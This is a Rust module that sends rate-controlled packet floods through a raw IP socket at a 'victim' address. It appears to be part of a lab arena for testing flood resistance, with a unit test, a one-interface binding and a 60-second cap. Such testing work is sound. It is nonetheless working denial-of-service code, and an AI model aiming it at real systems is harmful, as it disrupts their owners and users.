//! The sender of a flood: an even rate through one raw socket, several packets a call.

use std::io::{self, IoSlice};
use std::net::{SocketAddr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use rustix::net::{MMsgHdr, SendAncillaryBuffer, SendFlags, sendmmsg};
use serde::{Deserialize, Serialize};
use socket2::{Domain, Protocol, Socket, Type};

use super::arena::{ATTACK_LINE, VICTIM};
use super::flood::Flood;

/// IPPROTO_RAW: packets include their IP header.
const WITH_IP_HEADER: i32 = 255;
/// Interval between batches. At 100,000 packets a second a batch has 20.
const TICK: Duration = Duration::from_micros(200);
/// Packets per call.
const BATCH: usize = 64;
/// Delay that a sender catches up with. Catching up with more would be a burst and no even rate.
const ARREARS: Duration = Duration::from_millis(10);
/// Limit for a flood, in case the process that started it hangs.
const DURATION_MAX: Duration = Duration::from_secs(60);
const SEND_BUFFER_BYTES: usize = 4 << 20;

/// Packets sent.
#[derive(Clone, Copy, Debug, Default, Serialize, Deserialize)]
pub(crate) struct Sent {
    /// Packets that the kernel accepted.
    pub packets: u64,
    /// Their bytes, IP header included.
    pub bytes: u64,
    /// Time from the first to the last.
    pub seconds: f64,
}

/// Opens the attacker's socket, which sends on the attack line only.
pub(crate) fn socket() -> io::Result<Socket> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(WITH_IP_HEADER)))?;
    socket.bind_device(Some(ATTACK_LINE.as_bytes()))?;
    socket.set_send_buffer_size(SEND_BUFFER_BYTES)?;
    // A raw socket ignores the port.
    socket.connect(&SocketAddr::V4(SocketAddrV4::new(VICTIM, 0)).into())?;
    Ok(socket)
}

/// Sends the packets of a flood in turn, so many a second, until `stop` is set.
pub(crate) fn send(
    socket: &Socket,
    flood: Flood,
    packets: &mut [Vec<u8>],
    packets_per_s: u64,
    stop: &AtomicBool,
) -> io::Result<Sent> {
    let arrears_max = (packets_per_s as f64 * ARREARS.as_secs_f64()) as u64 + 1;
    let began = Instant::now();
    let (mut handed_over, mut sent) = (0, Sent::default());
    while !stop.load(Ordering::Relaxed) && began.elapsed() < DURATION_MAX {
        let due = (began.elapsed().as_secs_f64() * packets_per_s as f64) as u64;
        // Packets beyond the catch-up limit are never sent; the measured rate shows that.
        handed_over = handed_over.max(due.saturating_sub(arrears_max));
        while handed_over < due {
            let batch = next_batch(flood, packets, handed_over, due);
            let taken = send_batch(socket, batch)?;
            sent.packets += taken as u64;
            sent.bytes += batch[..taken].iter().map(|packet| packet.len() as u64).sum::<u64>();
            handed_over += batch.len() as u64;
        }
        thread::sleep(TICK);
    }
    sent.seconds = began.elapsed().as_secs_f64();
    Ok(sent)
}

/// Returns the packets of the next call, of those that are due. Packets that were sent before are renewed only now: to renew
/// those of the whole flood at once would interrupt it.
fn next_batch(flood: Flood, packets: &mut [Vec<u8>], handed_over: u64, due: u64) -> &[Vec<u8>] {
    let all = packets.len() as u64;
    let (times_sent, first) = (handed_over / all, (handed_over % all) as usize);
    let count = ((due - handed_over) as usize).min(BATCH).min(packets.len() - first);
    let batch = &mut packets[first..first + count];
    if times_sent > 0 {
        for (number, packet) in (first..).zip(&mut *batch) {
            flood.renew((number, packet), times_sent);
        }
    }
    batch
}

/// Returns the number that the kernel accepted.
fn send_batch(socket: &Socket, batch: &[Vec<u8>]) -> io::Result<usize> {
    let slices: Vec<[IoSlice<'_>; 1]> = batch.iter().map(|packet| [IoSlice::new(packet)]).collect();
    let mut controls: Vec<SendAncillaryBuffer<'_, '_, '_>> =
        batch.iter().map(|_| SendAncillaryBuffer::default()).collect();
    let mut headers: Vec<MMsgHdr<'_>> =
        slices.iter().zip(&mut controls).map(|(slice, control)| MMsgHdr::new(slice, control)).collect();
    match sendmmsg(socket, &mut headers, SendFlags::empty()) {
        Ok(taken) => Ok(taken),
        // The queue of the line is full: the packet is lost, as on any line.
        Err(rustix::io::Errno::NOBUFS | rustix::io::Errno::AGAIN) => Ok(0),
        Err(errno) => Err(errno.into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_packets_that_are_sent_again_now_are_renewed() {
        const PACKETS: u64 = 100;
        const FLOOD: Flood = Flood::InitRepeated;
        let mut packets = FLOOD.packets(PACKETS, false).expect("random numbers");
        let built = packets.clone();
        assert_eq!(next_batch(FLOOD, &mut packets, 0, 10), &built[..10]);
        assert_eq!(packets, built, "none was sent before");
        let last = next_batch(FLOOD, &mut packets, PACKETS - 5, PACKETS + 10);
        assert_eq!(last, &built[95..], "the next batch begins with the first packet");
        let again = next_batch(FLOOD, &mut packets, PACKETS + 2, PACKETS + 9).to_vec();
        assert_eq!(again, packets[2..9]);
        let renewed: Vec<usize> = (0..packets.len()).filter(|&at| packets[at] != built[at]).collect();
        assert_eq!(renewed, [2, 4, 6, 8], "half of those that are sent");
    }
}
